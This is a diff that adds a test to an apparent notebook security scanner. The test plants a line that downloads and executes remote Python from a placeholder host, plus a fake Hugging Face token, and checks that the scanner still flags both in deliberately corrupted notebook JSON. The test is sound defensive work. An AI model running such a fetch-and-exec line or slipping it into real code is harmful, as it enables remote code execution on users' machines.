@@ -192,6 +192,36 @@ describe('what is no notebook', () => {
     },
   );
 
+  const harm = "exec(__import__('urllib.request').request.urlopen('https://example.invalid/x').read())\n";
+  const spoiled = (spoil: (text: string) => string): string =>
+    spoil(
+      indented(notebook([code(['x = 1\n']), code([harm]), code([`t = "${token('huggingface-user')}"\n`])])),
+    );
+
+  it.each<[string, (text: string) => string, RegExp]>([
+    ['a comma too many', (text) => text.replace(/\}\n \]/, '},\n ]'), /^ \]/],
+    ['a merge before the cells', (text) => text.replace('[\n', '[\n<<<<<<< HEAD\n'), /<<<</],
+    ['a merge in a source', (text) => text.replace('    "exec', '<<<<<<< HEAD\n    "exec'), /<<<</],
+    [
+      'a value that is missing',
+      (text) => text.replace('"execution_count": 1', '"execution_count": '),
+      /"execution_count": ,/,
+    ],
+    ['an end that is missing', (text) => text.slice(0, text.lastIndexOf(']')), /^ "nbformat_minor"/],
+  ])('with %s is read around it', async (_, spoil, mistake) => {
+    const text = spoiled(spoil);
+    const { findings } = await inspect(text);
+    const lines = text.split('\n');
+    const lineWith = (pattern: RegExp): number => lines.findIndex((line) => pattern.test(line)) + 1;
+    const lineOfRule = (start: string): number | undefined =>
+      findings.find(({ rule }) => rule.startsWith(start))?.location.line;
+    expect(lineOfRule('CODE-DOWNLOAD')).toBe(lineWith(/exec\(/));
+    expect(lineOfRule('SECRET-AI')).toBe(lineWith(/t = /));
+    expect(findings.filter(({ rule }) => rule.startsWith('SECRET-'))).toHaveLength(1);
+    const end = mistake.source.includes('nbformat') ? lines.length : lineWith(mistake);
+    expect(lineOfRule('SCAN-INCOMPLETE')).toBe(end);
+  });
+
   it('has cells that nobody reads', async () => {
     const { findings } = await inspect(indented(notebook([code('%%perl\nsystem("ls")')])));
     expect(findings).toMatchObject([
